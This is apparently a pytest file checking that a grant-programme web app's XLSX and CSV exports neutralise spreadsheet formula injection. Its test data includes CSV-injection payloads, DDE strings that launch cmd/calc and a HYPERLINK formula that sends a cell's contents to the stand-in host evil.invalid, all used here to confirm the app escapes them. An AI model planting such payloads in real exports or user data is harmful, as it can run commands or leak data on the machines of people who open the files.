"""Every export writes user text that starts with =, +, - or @ as text, never a formula.

The text gets into the data the way a user puts it there (forms, or the services the forms
call); each export is then downloaded or produced and opened: every cell holding one of
the texts must be a text cell (openpyxl data_type "s"), and CSV cells start with a quote.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from app.extensions import db
from app.periods import Quarter
from tests.conftest import LEAD_GSS, post_form
from tests.returns.conftest import good_figures, post_and_confirm

DANGEROUS = {
    "narrative": '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "issues": "+cmd|' /C calc'!A0",
    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
    "risk": "-2+3+cmd|' /C calc'!A0",
    "reference": "=1+1",
    "note": '@HYPERLINK("http://evil.invalid")',
    "reason": "+1+1",
    "local": "=2+2",
}
MONTH = "2021-08"  # in 2021-22 Q2


def _text_cells(workbook, texts) -> dict[str, list]:
    """{text: [cells holding it]} over every sheet."""
    found = {text: [] for text in texts}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value].append(cell)
    return found


def _assert_all_text(workbook, texts) -> None:
    for text, cells in _text_cells(workbook, texts).items():
        assert cells, f"{text!r} is not in the workbook (as text)"
        for cell in cells:
            assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} is {cell.data_type}"


def _no_formulas(workbook) -> None:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


def _submitted_return(signed_in):
    lead = signed_in("lead")
    response = post_form(
        lead,
        f"/returns/{LEAD_GSS}/{MONTH}",
        good_figures(
            progress_narrative=DANGEROUS["narrative"], issues_narrative=DANGEROUS["issues"], save_draft="Save"
        ),
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    return lead


def test_the_returns_template_writes_saved_narratives_as_text(signed_in):
    lead = _submitted_return(signed_in)
    response = lead.get(f"/returns/{LEAD_GSS}/{MONTH}/template.xlsx")
    workbook = load_workbook(io.BytesIO(response.data))
    _assert_all_text(workbook, [DANGEROUS["narrative"], DANGEROUS["issues"]])
    _no_formulas(workbook)


def test_the_client_register_download_writes_references_as_text(signed_in):
    from app.clients import service
    from app.programme.service import authority_by_gss

    client = service.create_client(
        authority_by_gss(LEAD_GSS),
        {
            "referral_date": date(2019, 5, 1),
            "accepted_date": date(2019, 5, 1),
            "age_band": "25_34",
            "gender": "male",
            "rough_sleeping_band": "1_2y",
        },
    )
    client.local_case_reference = DANGEROUS["local"]  # as if typed before the rule existed
    db.session.commit()
    response = signed_in("lead").get(f"/clients/{LEAD_GSS}/download")
    workbook = load_workbook(io.BytesIO(response.data))
    _assert_all_text(workbook, [DANGEROUS["local"]])
    _no_formulas(workbook)


def _finance_texts():
    from app.finance import ledger, profile
    from app.programme.service import authority_by_gss

    birmingham = authority_by_gss(LEAD_GSS)
    ledger.add_payment(
        birmingham, date(2019, 7, 1), 100_00, DANGEROUS["reference"], "2019-20-Q2", "finance@test.invalid"
    )
    ledger.add_receipt("2019-20", date(2019, 5, 1), 1_000_00, DANGEROUS["note"], "finance@test.invalid")
    lines = profile.current_lines()
    first, second = sorted(
        (q, s) for a, q, s in lines if a == birmingham.id and q.startswith("2019-20") and s == "hf_support"
    )[:2]
    moved = {first: lines[(birmingham.id, *first)] - 5_00, second: lines[(birmingham.id, *second)] + 5_00}
    profile.reprofile_authority(birmingham, moved, DANGEROUS["reason"], "finance@test.invalid")
    db.session.commit()


def test_finance_downloads_write_references_notes_and_reasons_as_text(signed_in):
    _finance_texts()
    finance = signed_in("finance")
    for name, text in (
        ("payments", DANGEROUS["reference"]),
        ("grant-receipts", DANGEROUS["note"]),
        ("profile-versions", DANGEROUS["reason"]),
    ):
        response = finance.get(f"/finance/download/{name}.xlsx")
        assert response.status_code == 200, name
        workbook = load_workbook(io.BytesIO(response.data))
        _assert_all_text(workbook, [text])
        _no_formulas(workbook)
        response = finance.get(f"/finance/download/{name}.csv")
        assert response.status_code == 200, name
        cells = [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for cell in row]
        assert "'" + text in cells, f"{name}.csv: {text!r} not neutralised"
        assert text not in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], name


def test_the_quarterly_report_writes_narratives_providers_and_risks_as_text(signed_in, app):
    from app.finance.export import DANGEROUS_FIRST_CHARACTERS
    from app.programme.service import authority_by_gss
    from app.registers import service as registers
    from app.reporting import service as reporting

    lead = _submitted_return(signed_in)
    version = db.session.scalar(
        db.text("SELECT version FROM monthly_return WHERE month = :month"), {"month": MONTH}
    )
    post_and_confirm(
        lead,
        f"/returns/{LEAD_GSS}/{MONTH}",
        good_figures(
            progress_narrative=DANGEROUS["narrative"],
            issues_narrative=DANGEROUS["issues"],
            version=str(version),
            submit_return="Submit",
        ),
    )
    authority_id = authority_by_gss(LEAD_GSS).id
    registers.create_service(
        registers.ServiceValues(
            authority_id=authority_id,
            provider_name=DANGEROUS["provider"],
            service_type="nursing",
            contract_value_pence=100_00,
            start_date=date(2021, 4, 1),
            end_date=date(2022, 3, 31),
            capacity_people=3,
            status="active",
        ),
        actor="test",
    )
    registers.create_risk(
        registers.RiskValues(
            kind="risk",
            authority_id=authority_id,
            title=DANGEROUS["risk"],
            description="=1",
            likelihood=3,
            impact=4,
            owner_role="Lead",
            mitigation="-mitigate",
            review_date=date(2030, 1, 1),
        ),
        actor="test",
    )
    texts = [DANGEROUS["narrative"], DANGEROUS["issues"], DANGEROUS["provider"], DANGEROUS["risk"]]
    for variant in ("taskforce", "mhclg"):
        run = reporting.run_quarterly(Quarter.parse("2021-22-Q2"), variant, "test")
        assert run.status == "succeeded", run.error
        workbook = load_workbook(Path(app.config["REPORTS_DIR"]) / run.file_name)
        found = _text_cells(workbook, texts)
        if variant == "taskforce":
            assert all(found.values()), f"missing from the report: {[t for t, c in found.items() if not c]}"
        assert any(found.values()), f"{variant}: none of the user texts is in the report"
        for cells in found.values():
            for cell in cells:
                assert cell.data_type == "s", f"{variant} {cell.parent.title}!{cell.coordinate}"
        _no_formulas(workbook)
        # and no cell anywhere starts with a dangerous character unless it is text
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_FIRST_CHARACTERS):
                        assert cell.data_type == "s"
